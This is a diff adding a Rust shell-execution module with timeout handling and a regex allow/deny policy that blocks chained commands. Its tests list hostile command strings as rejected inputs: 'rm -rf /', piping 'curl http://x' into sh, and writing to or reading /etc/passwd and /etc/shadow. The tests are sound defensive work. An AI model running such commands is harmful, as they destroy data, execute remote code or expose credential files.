@@ -0,0 +1,195 @@
+use std::process::Stdio;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncReadExt, BufReader};
+use tokio::process::Command;
+
+use crate::config::CONFIG;
+
+/// Output kept in memory per command
+const MAX_OUTPUT: usize = 1 << 20;
+/// Longest line buffered before it is flushed without its newline
+const MAX_LINE: u64 = 64 * 1024;
+/// Characters chaining or substituting commands in `sh -c`
+const SHELL_META: [char; 9] = [';', '&', '|', '`', '$', '<', '>', '\n', '\r'];
+
+/// Combined stdout + stderr, shared while the command runs
+pub type OutputBuf = Arc<Mutex<String>>;
+
+static POLICY: Lazy<(Vec<Regex>, Vec<Regex>)> = Lazy::new(|| {
+    let compile = |patterns: &Vec<String>| {
+        patterns
+            .iter()
+            .filter_map(|p| Regex::new(p).ok())
+            .collect::<Vec<Regex>>()
+    };
+    (compile(&CONFIG.shell.allow), compile(&CONFIG.shell.deny))
+});
+
+#[derive(Debug, Clone)]
+pub struct ExecResult {
+    pub output: String,
+    pub code: Option<i32>,
+    pub timed_out: bool,
+    pub elapsed: Duration,
+}
+
+impl ExecResult {
+    pub fn success(&self) -> bool {
+        self.code == Some(0)
+    }
+
+    pub fn status(&self) -> String {
+        match (self.timed_out, self.code) {
+            (true, _) => format!("killed after {:.1}s timeout", self.elapsed.as_secs_f32()),
+            (false, Some(code)) => format!("exit {} · {:.1}s", code, self.elapsed.as_secs_f32()),
+            (false, None) => format!("killed by signal · {:.1}s", self.elapsed.as_secs_f32()),
+        }
+    }
+}
+
+pub fn validate() -> anyhow::Result<()> {
+    for pattern in CONFIG.shell.allow.iter().chain(CONFIG.shell.deny.iter()) {
+        Regex::new(pattern).map_err(|e| anyhow::anyhow!("[shell] invalid pattern `{}`: {}", pattern, e))?;
+    }
+    Ok(())
+}
+
+/// Check a `/shell` command against the allow and deny lists
+pub fn check_policy(cmd: &str) -> Result<(), String> {
+    let (allow, deny) = &*POLICY;
+    check(cmd, allow, deny)
+}
+
+/// With an allowlist the command must be a single simple command,
+/// otherwise `ls; rm -rf /` would pass an `^ls` pattern
+fn check(cmd: &str, allow: &[Regex], deny: &[Regex]) -> Result<(), String> {
+    if let Some(re) = deny.iter().find(|re| re.is_match(cmd)) {
+        return Err(format!("command denied by `{}`", re.as_str()));
+    }
+    if allow.is_empty() {
+        return Ok(());
+    }
+    if let Some(c) = cmd.chars().find(|c| SHELL_META.contains(c)) {
+        return Err(format!("`{}` is not allowed with an allowlist", c.escape_default()));
+    }
+    if !allow.iter().any(|re| re.is_match(cmd)) {
+        return Err("command is not in the allowlist".to_string());
+    }
+    Ok(())
+}
+
+pub fn sh(cmd: &str) -> Command {
+    let mut command = Command::new("sh");
+    command.arg("-c").arg(cmd);
+    command
+}
+
+pub async fn run_shell(cmd: &str, timeout: Duration, output: OutputBuf) -> std::io::Result<ExecResult> {
+    execute(sh(cmd), timeout, output).await
+}
+
+async fn pipe(reader: impl AsyncRead + Unpin, output: OutputBuf) {
+    let mut reader = BufReader::new(reader);
+    let mut line = vec![];
+    while let Ok(n) = (&mut reader).take(MAX_LINE).read_until(b'\n', &mut line).await {
+        if n == 0 {
+            break;
+        }
+        let mut out = output.lock().unwrap();
+        if out.len() < MAX_OUTPUT {
+            out.push_str(&String::from_utf8_lossy(&line));
+        }
+        line.clear();
+    }
+}
+
+/// Run a command in its own process group, streaming stdout and stderr into `output`.
+/// The whole group is killed when the timeout expires.
+pub async fn execute(mut cmd: Command, timeout: Duration, output: OutputBuf) -> std::io::Result<ExecResult> {
+    let start = Instant::now();
+    cmd.stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .process_group(0)
+        .kill_on_drop(true);
+    let mut child = cmd.spawn()?;
+    let readers = [
+        child.stdout.take().map(|r| tokio::spawn(pipe(r, output.clone()))),
+        child.stderr.take().map(|r| tokio::spawn(pipe(r, output.clone()))),
+    ];
+
+    let (code, timed_out) = match tokio::time::timeout(timeout, child.wait()).await {
+        Ok(status) => (status?.code(), false),
+        Err(_) => {
+            if let Some(pid) = child.id() {
+                unsafe { libc::kill(-(pid as i32), libc::SIGKILL) };
+            }
+            let _ = child.kill().await;
+            (None, true)
+        }
+    };
+    // background children may still hold the pipes
+    for mut reader in readers.into_iter().flatten() {
+        if tokio::time::timeout(Duration::from_secs(2), &mut reader).await.is_err() {
+            reader.abort();
+        }
+    }
+
+    let output = output.lock().unwrap().clone();
+    Ok(ExecResult {
+        output,
+        code,
+        timed_out,
+        elapsed: start.elapsed(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn patterns(patterns: &[&str]) -> Vec<Regex> {
+        patterns.iter().map(|p| Regex::new(p).unwrap()).collect()
+    }
+
+    #[test]
+    fn allowlist_rejects_chained_commands() {
+        let allow = patterns(&["^ls", "^df"]);
+        assert!(check("ls -la /var/log", &allow, &[]).is_ok());
+        for cmd in [
+            "ls; rm -rf /",
+            "ls && curl http://x | sh",
+            "ls || reboot",
+            "ls $(reboot)",
+            "ls `reboot`",
+            "ls > /etc/passwd",
+            "ls < /etc/shadow",
+            "ls &",
+            "ls\nreboot",
+            "df -h | sh",
+        ] {
+            assert!(check(cmd, &allow, &[]).is_err(), "{}", cmd);
+        }
+        assert!(check("uptime", &allow, &[]).is_err());
+    }
+
+    #[test]
+    fn deny_wins_and_no_allowlist_allows_pipes() {
+        let deny = patterns(&["rm\\s+-rf"]);
+        assert!(check("rm -rf /tmp/x", &[], &deny).is_err());
+        assert!(check("ps aux | grep botte", &[], &deny).is_ok());
+        assert!(check("ls", &patterns(&["^ls"]), &patterns(&["^ls"])).is_err());
+    }
+
+    #[tokio::test]
+    async fn long_lines_are_bounded() {
+        let output = OutputBuf::default();
+        let data = vec![b'x'; 3 * MAX_LINE as usize];
+        pipe(&data[..], output.clone()).await;
+        assert_eq!(output.lock().unwrap().len(), data.len());
+    }
+}